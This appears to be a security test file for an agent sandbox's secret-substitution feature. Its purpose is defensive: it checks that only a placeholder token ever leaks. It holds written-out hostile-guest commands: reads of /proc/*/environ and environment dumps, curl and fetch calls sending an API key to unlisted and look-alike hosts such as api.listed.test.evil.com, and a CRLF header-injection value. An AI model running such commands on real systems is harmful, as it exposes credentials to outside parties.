// Issue 19, item 3: host-held secrets (policy.secrets). A hostile guest tries
// every route to the value of a secret that the kernel holds for it: its
// environment and other processes' /proc entries in each runtime, requests to
// an unlisted host, the value in a listed host's URL, query or body, a
// redirect from the listed host to another, look-alike names
// (listed.test.evil.com), case variants of header and host names, a server
// that echoes what it got (headers and body, split over chunks), the audit
// trail and a snapshot of the layer. The positive case: the listed host gets
// the value in the header. A server on 127.0.0.1 (names mapped to it by the
// network policy's `hosts`) records what reached it.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { AgentVM, type Policy } from '../../src/host/node/index.js';
import { checkPolicy } from '../../src/host/check-policy.js';

const VALUE = 'sk-REAL-7f3a9c2e5b1d4086aa';
const TOKEN = /aos-secret-API_KEY-[0-9a-f]{32}/;

interface Seen {
  host: string;
  url: string;
  headers: string;
  body: string;
}

let server: Server;
let port = 0;
const seen: Seen[] = [];

function readBody(req: IncomingMessage): Promise<string> {
  return new Promise((ok) => {
    const parts: Buffer[] = [];
    req.on('data', (c: Buffer) => parts.push(c));
    req.on('end', () => ok(Buffer.concat(parts).toString()));
  });
}

before(async () => {
  server = createServer((req, res) => {
    void readBody(req).then((body) => {
      const headers = req.rawHeaders.join('\n');
      seen.push({ host: req.headers.host ?? '', url: req.url ?? '', headers, body });
      const url = new URL(req.url ?? '/', 'http://x');
      if (url.pathname === '/redirect') {
        res.writeHead(302, { Location: url.searchParams.get('to') ?? '/' });
        return void res.end();
      }
      // An echoing server: every header it got back as headers and, in 5-byte pieces (values cut across chunks), as the body.
      const echo = `${req.method} ${req.url}\n${headers}\n${body}\n`;
      res.writeHead(200, { 'Content-Type': 'text/plain', 'X-Echo-Auth': req.headers.authorization ?? '', 'X-Echo-Key': String(req.headers['x-api-key'] ?? '') });
      let i = 0;
      const more = (): void => {
        if (i >= echo.length) return void res.end();
        res.write(echo.slice(i, (i += 5)));
        setImmediate(more);
      };
      more();
    });
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  port = (server.address() as AddressInfo).port;
});

after(() => new Promise<void>((ok) => server.close(() => ok())));

const NAMES = ['api.listed.test', 'other.test', 'api.listed.test.evil.com', 'listed.test', 'eu.wild.test', 'wild.test'];

function policy(): Policy {
  return {
    secrets: { API_KEY: { value: VALUE, hosts: ['api.listed.test', '*.wild.test'] } },
    network: {
      allow: NAMES.map((origin) => ({ origin, private: true })),
      hosts: Object.fromEntries(NAMES.map((n) => [n, '127.0.0.1'])),
    },
  };
}

let vm: AgentVM;
/** Everything the guest printed, for the final check. */
const printed: string[] = [];

async function run(cmd: string): Promise<string> {
  const r = await vm.exec(cmd.replaceAll('$P', String(port)));
  const out = r.stdout + r.stderr;
  printed.push(out);
  return out;
}

/** The requests to `host` since `from`. */
const to = (host: string, from: number) => seen.slice(from).filter((s) => s.host.replace(/:\d+$/, '').replace(/\.$/, '').toLowerCase() === host);

function noValue(text: string, where: string): void {
  assert.ok(!text.includes(VALUE), `the value leaked in ${where}: ${text.slice(0, 400)}`);
}

describe('host-held secrets (policy.secrets)', () => {
  before(async () => {
    vm = new AgentVM({ policy: policy() });
    await vm.start();
  });
  after(() => vm?.stop());

  test('the policy is checked strictly', () => {
    const bad: [unknown, RegExp][] = [
      [{ 'A-B': { value: VALUE, hosts: ['x.com'] } }, /not an environment variable name/],
      [{ K: { value: VALUE, hosts: ['x.com'], extra: 1 } }, /unknown key K\.extra/],
      [{ K: { value: 'short', hosts: ['x.com'] } }, /shorter than 8/],
      [{ K: { value: 'line1\r\nX-Evil: 1', hosts: ['x.com'] } }, /control character/],
      [{ K: { value: VALUE, hosts: [] } }, /non-empty array/],
      [{ K: { value: VALUE, hosts: ['https://x.com'] } }, /not a host name/],
      [{ K: { value: VALUE, hosts: ['x.com:443'] } }, /not a host name/],
      [{ K: { value: VALUE, hosts: ['x.com/path'] } }, /not a host name/],
      [{ K: { value: VALUE, hosts: ['*'] } }, /not a host name/],
      [{ K: { value: VALUE, hosts: ['*.com'] } }, /top-level domain/],
      [{ K: { value: VALUE, hosts: ['a.*.com'] } }, /not a host name/],
      [{ K: { value: 42, hosts: ['x.com'] } }, /value must be a string/],
    ];
    for (const [secrets, msg] of bad) {
      assert.throws(() => checkPolicy({ secrets }), (e: Error) => msg.test(e.message) && !e.message.includes(VALUE), JSON.stringify(secrets));
    }
    assert.deepEqual(checkPolicy({ secrets: { K: { value: VALUE, hosts: ['API.x.com', '*.y.org'] } } }).secrets, { K: { value: VALUE, hosts: ['API.x.com', '*.y.org'] } });
  });

  test('the listed host receives the real value in the header (positive)', async () => {
    const from = seen.length;
    await run('curl -s -H "Authorization: Bearer $API_KEY" http://api.listed.test:$P/echo');
    const got = to('api.listed.test', from);
    assert.equal(got.length, 1);
    assert.match(got[0].headers, new RegExp(`Authorization\\nBearer ${VALUE}`));
    // *.wild.test: a subdomain is listed, the domain itself is not.
    const w = seen.length;
    await run('curl -s -H "x-api-key: $API_KEY" http://eu.wild.test:$P/echo; curl -s -H "x-api-key: $API_KEY" http://wild.test:$P/echo');
    assert.ok(to('eu.wild.test', w)[0].headers.includes(VALUE));
    assert.ok(!to('wild.test', w)[0].headers.includes(VALUE));
    assert.match(to('wild.test', w)[0].headers, TOKEN);
  });

  // Every runtime reads its environment and every process's /proc entries: only the token is there.
  const RUNTIMES: [runtime: string, env: string, proc: string][] = [
    ['shell', 'echo "$API_KEY"; env; set', 'cat /proc/*/environ /proc/*/cmdline | tr "\\0" "\\n"'],
    ['node', `node -e 'console.log(process.env.API_KEY, JSON.stringify(process.env))'`,
      `node -e 'const fs=require("fs");for(const d of fs.readdirSync("/proc"))for(const f of ["environ","cmdline"])try{console.log(fs.readFileSync("/proc/"+d+"/"+f,"latin1"))}catch{}'`],
    ['python', `python3 -c 'import os; print(os.environ.get("API_KEY"), dict(os.environ))'`,
      `python3 -c '
import os
for d in os.listdir("/proc"):
  for f in ("environ", "cmdline"):
    try: print(open("/proc/" + d + "/" + f, "rb").read())
    except Exception: pass'`],
  ];
  test('wasm (WASI): the environment and /proc hold only the token', async () => {
    // This file runs from dist/test/security/; the WASI test programs are built into dist/wasm/.
    for (const n of ['args', 'cat']) await vm.writeFile(`/home/user/${n}.wasm`, new Uint8Array(readFileSync(new URL(`../../wasm/${n}.wasm`, import.meta.url))), 0o755);
    const out = await run('~/args.wasm; ~/cat.wasm /proc/*/environ /proc/*/cmdline');
    assert.match(out, /env API_KEY=aos-secret-API_KEY-[0-9a-f]{32}/);
    noValue(out, 'a WASI program\'s environment and /proc');
  });

  for (const [runtime, env, proc] of RUNTIMES) {
    test(`${runtime}: the environment holds only the token`, async () => {
      const out = await run(env);
      assert.match(out, TOKEN);
      noValue(out, `${runtime}'s environment`);
    });
    test(`${runtime}: /proc/*/environ and /proc/*/cmdline hold only the token`, async () => {
      // Another process with the token in its arguments and environment, alive meanwhile.
      const out = await run(`sleep 5 "$API_KEY" & ${proc}; kill %1`);
      assert.match(out, TOKEN);
      noValue(out, `${runtime}'s /proc`);
    });
  }

  // Requests a guest makes with the token where the kernel must not put the value.
  const CLIENTS: [client: string, get: (url: string, header: string) => string][] = [
    ['curl', (url, header) => `curl -s -L -H "${header}: Bearer $API_KEY" "${url}"`],
    ['node fetch', (url, header) => `node -e 'fetch(process.argv[1],{headers:{"${header}":"Bearer "+process.env.API_KEY}}).then(r=>r.text()).then(t=>console.log(t),e=>console.log(String(e)))' "${url}"`],
  ];
  for (const [client, get] of CLIENTS) {
    test(`${client}: an unlisted host gets the token`, async () => {
      const from = seen.length;
      const out = await run(get('http://other.test:$P/echo', 'Authorization'));
      assert.match(to('other.test', from)[0].headers, TOKEN);
      noValue(JSON.stringify(seen.slice(from)), 'a request to an unlisted host');
      noValue(out, 'the output');
    });
    test(`${client}: a look-alike name (api.listed.test.evil.com) gets the token`, async () => {
      const from = seen.length;
      const out = await run(get('http://api.listed.test.evil.com:$P/echo', 'Authorization'));
      assert.equal(to('api.listed.test.evil.com', from).length, 1);
      noValue(JSON.stringify(seen.slice(from)), 'a request to a look-alike host');
      noValue(out, 'the output');
    });
    test(`${client}: a redirect from the listed host to an unlisted one carries only the token on`, async () => {
      const from = seen.length;
      // X-Api-Key: clients drop Authorization on a redirect to another host themselves, not other headers.
      const out = await run(get(`http://api.listed.test:$P/redirect?to=http://other.test:${port}/echo`, 'X-Api-Key'));
      assert.ok(to('api.listed.test', from)[0].headers.includes(VALUE), 'the listed hop gets the value');
      const next = to('other.test', from);
      assert.equal(next.length, 1, 'the redirect was followed');
      noValue(JSON.stringify(next), 'the redirected request');
      noValue(out, 'the output');
    });
    test(`${client}: case variants of header and host names; the echo comes back masked`, async () => {
      const from = seen.length;
      const out = await run(get('http://API.Listed.TEST.:$P/echo', 'AUTHORIZATION'));
      assert.ok(to('api.listed.test', from)[0].headers.includes(VALUE), 'the listed host (any case) gets the value');
      assert.match(out, TOKEN);
      noValue(out, 'the echoed body');
    });
  }

  test('the listed host gets the token in the URL, query and body, never the value', async () => {
    const from = seen.length;
    const out = await run('curl -s "http://api.listed.test:$P/echo/$API_KEY?k=$API_KEY" -H "X-Other: $API_KEY" -d "key=$API_KEY"');
    const got = to('api.listed.test', from)[0];
    assert.match(got.url, TOKEN);
    assert.ok(!got.url.includes(VALUE));
    assert.match(got.body, TOKEN);
    assert.ok(!got.body.includes(VALUE));
    noValue(out, 'the output');
  });

  test('an echoing server: response headers and a body split over chunks are masked', async () => {
    const from = seen.length;
    const out = await run('curl -s -i -H "x-api-key: $API_KEY" -H "Authorization: Bearer $API_KEY" http://api.listed.test:$P/echo');
    assert.ok(to('api.listed.test', from)[0].headers.includes(VALUE));
    assert.match(out, /X-Echo-Auth: Bearer aos-secret-API_KEY-[0-9a-f]{32}/i);
    assert.match(out, /X-Echo-Key: aos-secret-API_KEY-[0-9a-f]{32}/i);
    noValue(out, 'the echoed response');
    // Python's urllib reads the same syscall's pipe.
    const py = await run(`python3 -c '
import os, urllib.request
r = urllib.request.urlopen(urllib.request.Request("http://api.listed.test:$P/echo", headers={"X-Api-Key": os.environ["API_KEY"]}))
print(r.headers, r.read().decode())'`);
    assert.match(py, TOKEN);
    noValue(py, 'python\'s echoed response');
  });

  test('the audit trail, /proc/agentos/audit and a snapshot of the layer hold no value', async () => {
    await run('curl -s -o /home/user/echo.txt -H "x-api-key: $API_KEY" http://api.listed.test:$P/echo; env > /home/user/env.txt');
    noValue(await run('cat /proc/agentos/audit'), '/proc/agentos/audit');
    noValue(JSON.stringify(await vm.audit()), 'the audit trail');
    await vm.snapshot('with-secret');
    const bytes = await vm.snapshots.export('with-secret');
    assert.ok(!Buffer.from(bytes).includes(VALUE), 'the value is in the snapshot');
    assert.match(await run('cat /home/user/env.txt'), TOKEN);
  });

  test("isolation 'process': the kernel in its own process substitutes and masks the same way", async () => {
    const iso = new AgentVM({ policy: policy(), isolation: 'process' });
    await iso.start();
    try {
      const from = seen.length;
      const r = await iso.exec(`echo "$API_KEY"; curl -s -H "x-api-key: $API_KEY" http://api.listed.test:${port}/echo`);
      printed.push(r.stdout + r.stderr);
      assert.match(r.stdout, TOKEN);
      assert.ok(to('api.listed.test', from)[0].headers.includes(VALUE));
      noValue(r.stdout + r.stderr, 'the isolated VM\'s output');
    } finally {
      await iso.stop();
    }
  });

  test('nothing the guest printed held the value', () => {
    noValue(printed.join('\n'), 'the guest\'s output');
  });
});
